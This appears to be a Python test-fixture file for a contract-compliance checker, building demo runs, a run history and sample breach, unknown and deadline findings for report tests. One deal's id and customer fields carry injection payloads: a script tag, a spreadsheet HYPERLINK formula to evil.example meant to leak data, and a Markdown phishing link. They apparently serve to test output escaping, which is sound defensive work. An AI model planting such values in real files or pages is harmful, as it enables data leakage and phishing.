"""Runs that the report tests read: the demo portfolio, a hostile fact file, and a history.

The history is written by hand (what `--state` would hand the reports after earlier nights), so
the report tests do not depend on the state store.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from datetime import date
from pathlib import Path

from checker.dates.timeutil import parse_instant
from checker.evaluation.run import AgreementOutline, RunResult, RunSummary, run
from checker.findings.model import Evidence, Finding, FindingKind, Severity
from checker.findings.spool import FindingSpool
from checker.findings.tracking import Gone, RunHistory, Status, Tracked

ROOT = Path(__file__).resolve().parent.parent
RULES = ROOT / "rules"
DEMO_FACTS = ROOT / "fixtures" / "demo"
AS_OF = "2026-11-22"
PREVIOUS_AS_OF = date(2026, 11, 21)
# Findings on or after this date are new in the hand-made history; earlier ones are open.
NEW_FROM = date(2026, 11, 1)
OPEN_SINCE = date(2026, 10, 1)

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("https://evil.example/?leak","click me")'
MARKDOWN_LINK = "[phish](https://evil.example/login)"
# A deal that breaches globex 4.1 (direct, DE, analytics-suite) with hostile values: its id (in
# the message, the subject and the evidence) starts with a formula and holds a script; its
# customer (in the message) holds a table pipe, a Markdown link, a bare URL and an address.
HOSTILE_ID = f"{FORMULA}{SCRIPT}"
HOSTILE_CUSTOMER = f"{SCRIPT} | {MARKDOWN_LINK} www.evil.example jane@evil.example *bold*"
HOSTILE_FACT = {
    "id": HOSTILE_ID,
    "type": "deal.closed",
    "at": "2026-11-20T10:00:00Z",
    "partner": "northwind",
    "territory": "DE",
    "product": "analytics-suite",
    "channel": "direct",
    "customer": HOSTILE_CUSTOMER,
    "amount": 1,
}
UNREADABLE_LINE = {"id": "bad <b>line</b>", "type": "deal.closed"}  # no "at": rejected


def demo_run(
    facts: Path = DEMO_FACTS,
    as_of: str = AS_OF,
    horizon_days: int = 30,
    waivers: list[str] | None = None,
) -> RunResult:
    """The demo portfolio as of 2026-11-22 (close the result when done); `waivers` None reads
    rules/waivers.yaml."""
    instant = parse_instant(as_of)
    return run([str(RULES)], [str(facts)], instant, horizon_days, workers=1, waiver_paths=waivers)


def with_error(result: RunResult) -> RunResult:
    """`result` with one more finding: initech-data-2025 could not be evaluated at all."""
    result.findings.add([CRASH])
    return result


def hostile_facts(directory: Path) -> Path:
    """The demo facts plus one hostile deal and one line that cannot be read."""
    shutil.copytree(DEMO_FACTS, directory)
    lines = [json.dumps(HOSTILE_FACT), json.dumps(UNREADABLE_LINE)]
    (directory / "hostile.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return directory


def with_history(result: RunResult) -> RunResult:
    """`result` with a history: findings dated from 1 November new, the rest open since
    1 October; one finding resolved and one stale since the run of 21 November."""
    tracked = {}
    for finding in result.findings:
        new = finding.date >= NEW_FROM
        tracked[finding.fingerprint] = Tracked(
            Status.NEW if new else Status.OPEN,
            date(2026, 11, 22) if new else OPEN_SINCE,
            date(2026, 11, 22),
        )
    result.history = RunHistory(
        run_id=3,
        previous_as_of=PREVIOUS_AS_OF,
        tracked=tracked,
        resolved=[Gone(RESOLVED, Tracked(Status.RESOLVED, OPEN_SINCE, PREVIOUS_AS_OF))],
        stale=[Gone(STALE, Tracked(Status.STALE, OPEN_SINCE, PREVIOUS_AS_OF), STALE_REASON)],
    )
    return result


RESOLVED = Finding(
    agreement="hooli-saas-2025",
    clause="8.1",
    clause_title="Monthly licence fee",
    kind=FindingKind.BREACH,
    code="recurring.missed",
    severity=Severity.HIGH,
    date=date(2026, 10, 15),
    subject="2026-09",
    message="payment.received for 2026-09 was due by 2026-10-15 and has not been done",
    owner="commercial-legal",
)
STALE = replace(
    RESOLVED,
    agreement="umbrella-codev-2026",
    clause="6.2",
    clause_title="Delivery milestones",
    code="milestone.missed",
    subject="alpha",
    message="milestone alpha (milestone.achieved) was due by 2026-05-31 and has not been done",
    evidence=(Evidence("ms-0001", "milestone.planned", "2026-01-05T00:00:00Z", "notices:1"),),
)
STALE_REASON = "the input file fixtures/demo/notices.jsonl was missing tonight"
CRASH = Finding(
    agreement="initech-data-2025",
    clause="*",
    clause_title="Data partnership with Initech",
    kind=FindingKind.ERROR,
    code="evaluation.failed",
    severity=Severity.CRITICAL,
    date=date(2026, 11, 22),
    subject="initech-data-2025",
    message=f"Agreement could not be evaluated: the worker stopped at {SCRIPT}",
    owner="privacy-office",
)


# A small run by hand with unknown findings (the data that would decide them is not there), as
# a norm will report them: one agreement with clauses 4.1 and 8.1 and its term; clause 4.1 has a
# breach and an unknown finding, clause 8.1 an unknown finding and a deadline. Report order
# (agreement, date, clause): the breach (11-10), the fee unknown (11-15), the deals unknown
# (11-20), the deadline (12-15).
UNKNOWN_OUTLINE = AgreementOutline(
    "acme-resale",
    "Reseller agreement with Acme",
    "emea-legal",
    (("4.1", "Exclusive territory"), ("8.1", "Monthly licence fee"), ("term", "Term and renewal")),
)
ACME_BREACH = Finding(
    agreement="acme-resale",
    clause="4.1",
    clause_title="Exclusive territory",
    kind=FindingKind.BREACH,
    code="exclusivity.forbidden_activity",
    severity=Severity.HIGH,
    date=date(2026, 11, 10),
    subject="d1",
    message="deal.closed d1 was made directly in DE, inside Acme's exclusive territory",
    evidence=(Evidence("d1", "deal.closed", "2026-11-10T09:00:00Z", "exports/crm.jsonl:1"),),
    owner="emea-legal",
)
FEE_UNKNOWN = Finding(
    agreement="acme-resale",
    clause="8.1",
    clause_title="Monthly licence fee",
    kind=FindingKind.UNKNOWN,
    code="recurring.unknown",
    severity=Severity.HIGH,
    date=date(2026, 11, 15),
    subject="2026-10",
    message="cannot tell whether payment.received for 2026-10 was done by 2026-11-15: the "
    "billing feed runs only to 2026-10-31",
    owner="emea-legal",
)
DEALS_UNKNOWN = Finding(
    agreement="acme-resale",
    clause="4.1",
    clause_title="Exclusive territory",
    kind=FindingKind.UNKNOWN,
    code="exclusivity.unknown",
    severity=Severity.MEDIUM,
    date=date(2026, 11, 20),
    subject="2026-11-20",
    message="cannot tell about deals after 2026-11-19: the crm feed runs only to 2026-11-19",
    owner="emea-legal",
)
FEE_DEADLINE = Finding(
    agreement="acme-resale",
    clause="8.1",
    clause_title="Monthly licence fee",
    kind=FindingKind.DEADLINE,
    code="recurring.due",
    severity=Severity.MEDIUM,
    date=date(2026, 12, 15),
    subject="2026-11",
    message="payment.received for 2026-11 is due by 2026-12-15",
    owner="emea-legal",
)


def unknown_run() -> RunResult:
    """The small run above, as of 2026-11-22 with a 30-day horizon (close it when done)."""
    return _small_run([ACME_BREACH, FEE_UNKNOWN, DEALS_UNKNOWN, FEE_DEADLINE])


def known_run() -> RunResult:
    """The same run without its unknown findings: the breach of 4.1 and the deadline of 8.1 (for
    the reports of a run that has no unknown finding; the demo has one since the norms)."""
    return _small_run([ACME_BREACH, FEE_DEADLINE])


def _small_run(findings: list[Finding]) -> RunResult:
    spool = FindingSpool()
    spool.add(findings)
    summary = RunSummary(parse_instant(AS_OF), 30, agreements=1, clauses=3)
    for finding in findings:
        summary.findings_by_kind[finding.kind.value] += 1
    return RunResult(spool, [], summary, outlines=[UNKNOWN_OUTLINE])
